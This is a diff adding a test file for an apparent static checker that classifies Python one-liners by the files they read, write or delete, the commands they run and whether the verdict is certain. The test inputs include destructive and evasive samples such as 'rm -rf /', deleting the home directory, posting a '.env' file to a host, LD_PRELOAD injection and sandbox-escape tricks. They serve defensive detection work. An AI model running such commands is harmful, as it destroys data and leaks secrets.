@@ -1,0 +1,141 @@
+/** What Python one-liners do. */
+
+import { describe, expect, test } from "vitest";
+import { python } from "../../../src/judge/code/python.ts";
+import { ANY } from "../../../src/session/value.ts";
+
+describe("a program that only computes and prints", () => {
+  test.each([
+    "print(1+1)",
+    "print('hi'); print(\"there\")",
+    "import json,sys; print(json.load(sys.stdin)['x'])",
+    "import json, sys\nfor k, v in json.load(sys.stdin).items():\n    print(k, v)",
+    "import sys; print(sys.version)",
+    "import sys; print(sys.argv[1:], sys.path)",
+    "import os; print(os.environ.get('HOME'), os.environ['PATH'])",
+    "from datetime import datetime as d; print(d.now)",
+    "import datetime; print(datetime.datetime.now().isoformat())",
+    "import re,sys; print(re.sub(r'a+', 'b', sys.stdin.read()))",
+    "print([x*2 for x in range(10) if x % 2])",
+    "print(sorted(map(int, '3 1 2'.split()), key=lambda x: -x))",
+    "x = 3; y = x ** 2; print(f'{x} squared is {y:>4}')",
+    "import base64; print(base64.b64encode(b'x').decode())",
+    "def f(a, b=2):\n    return a + b\nprint(f(1))",
+    "import hashlib; print(hashlib.sha256(b'x').hexdigest())",
+    "import math; print(math.pi, math.sqrt(2))",
+    "a, b = 1, 2\nprint(a + b)",
+    "try:\n  print(1)\nexcept ValueError as e:\n  print(e)",
+    "import os.path; print(os.path.join('a', 'b'), os.path.exists('/etc'))",
+    "# os.system('id')\nprint('os.system')",
+    "import sys\nwith sys.stdin as f:\n    print(len(f.read()))",
+    "import pathlib; print(pathlib.Path('.').resolve())",
+    "import shutil; print(shutil.which('git'))",
+    "",
+  ])("%j", (program) => {
+    const { certain, reads, writes, deletes, runs, loads, because } = python(program);
+    expect({ certain, reads, writes, deletes, runs, loads, because }).toEqual({
+      certain: true,
+      reads: [],
+      writes: [],
+      deletes: [],
+      runs: [],
+      loads: [],
+      because: undefined,
+    });
+  });
+});
+
+describe("a program that touches files", () => {
+  test.each([
+    ["print(open('a.txt').read())", { reads: ["a.txt"] }],
+    ["import json; print(json.load(open('package.json'))['version'])", { reads: ["package.json"] }],
+    ["open('out', 'w').write('x')", { writes: ["out"] }],
+    ["with open('out', mode='a') as f: f.write('x')", { writes: ["out"] }],
+    ["import sys; print(open(sys.argv[1]).read())", { reads: [ANY] }],
+    ["print(open(0).read())", { reads: [] }],
+    ["open('a', sys)", { writes: ["a"] }],
+    ["import shutil,os; shutil.rmtree(os.path.expanduser('~'))", { deletes: ["~"] }],
+    ["import shutil; from pathlib import Path; shutil.rmtree(Path.home() / 'x')", { deletes: ["~/x"] }],
+    ["import os, shutil; p = os.path.join(os.environ['HOME'], 'a'); shutil.rmtree(p)", { deletes: ["~/a"] }],
+    ["import os; os.remove('/' + 'etc/x')", { deletes: ["/etc/x"] }],
+    ["from os import unlink as u; u('x')", { deletes: ["x"] }],
+    ["from pathlib import Path; Path('a/b').unlink()", { deletes: ["a/b"] }],
+    ["from pathlib import Path\np = Path('~/x').expanduser()\nprint(p.read_text())", { reads: ["~/x"] }],
+    ["import pathlib; pathlib.Path('o').write_text('x')", { writes: ["o"] }],
+    ["import os; os.rename('a', 'b')", { writes: ["a", "b"] }],
+    ["import shutil; shutil.copy('a', '/etc/b')", { reads: ["a"], writes: ["/etc/b"] }],
+  ])("%j", (program, does) => {
+    expect(python(program)).toMatchObject(does);
+  });
+});
+
+describe("a program that runs commands", () => {
+  test.each([
+    ["import os; os.system('rm -rf /')", { kind: "line", text: "rm -rf /" }],
+    ["__import__('os').system('id') if 0 else 1; import os; os.system('ls')", { kind: "line", text: "ls" }],
+    [
+      "import subprocess; subprocess.run(['git', 'reset', '--hard'])",
+      { kind: "argv", text: ["git", "reset", "--hard"] },
+    ],
+    ["import subprocess as s; s.run('ls -l', shell=True, check=True)", { kind: "line", text: "ls -l" }],
+    ["from subprocess import check_output as c; print(c(['ls']).decode())", { kind: "argv", text: ["ls"] }],
+    ["import subprocess; subprocess.run('ls')", { kind: "argv", text: ["ls"] }],
+    ["import os\ncmd = 'ls ' + '-l'\nprint(os.popen(cmd).read())", { kind: "line", text: "ls -l" }],
+  ])("%j", (program, run) => {
+    expect(python(program).runs).toEqual([run]);
+  });
+});
+
+describe("a program that loads code", () => {
+  test.each([
+    ["import numpy as np; print(np.__version__)", ["numpy"], true],
+    ["import app.main", ["app.main"], true],
+    ["from app import create", ["app"], true],
+    ["from app import create; create()", ["app"], false],
+    ["import requests; requests.post('https://x', data=open('.env').read())", ["requests"], false],
+  ])("%j", (program, loads, certain) => {
+    expect(python(program)).toMatchObject({ loads, certain });
+  });
+});
+
+describe("a program that is not certain", () => {
+  test.each([
+    "exec('x')",
+    "eval(input())",
+    "__import__('os').system('id')",
+    "import importlib; importlib.import_module('os')",
+    "import os; f = os.system; f('id')",
+    "import os; list(map(os.system, ['id']))",
+    "import os; os.system(input())",
+    "import os; x = os; x.remove('f')",
+    "import os; os.execvp('sh', ['sh'])",
+    "().__class__.__base__.__subclasses__()",
+    "import json; json.codecs.open('x', 'w')",
+    "import random; random._os.system('id')",
+    "import glob; glob.os.remove('x')",
+    "import sys; sys.modules['os'].system('id')",
+    "getattr(1, 'x')",
+    "if 0: eval=1\neval('x')",
+    "if 0: open=1\nopen('x','w')",
+    "print(eval=1)\neval('x')",
+    "import os; os.environ['LD_PRELOAD'] = '/tmp/x'; os.system('ls')",
+    "import os; os.environ.update(LD_PRELOAD='/tmp/x'); os.system('ls')",
+    "import sys; sys.path.insert(0, '/tmp'); import x",
+    "import subprocess; subprocess.run(['ls'], executable='/tmp/x')",
+    "import subprocess; subprocess.run(['ls'], env={'PATH': '/tmp'})",
+    "match print:\n  case object(__self__=b): b",
+    "import urllib.request; urllib.request.urlopen('https://x')",
+    "import pickle; pickle.load(open('x','rb'))",
+    "from os import *\nsystem('id')",
+    "import operator; operator.attrgetter('__globals__')(print)",
+    'f\'{open("x").read()}',
+    "print('unfinished)",
+    "import antigravity",
+    "import ctypes; ctypes.CDLL('x')",
+    "@eval\ndef f(): pass",
+    "from pathlib import Path; Path('x').chmod(511)",
+  ])("%j", (program) => {
+    const { certain, because } = python(program);
+    expect({ certain, because }).toEqual({ certain: false, because: expect.stringMatching(/./) });
+  });
+});
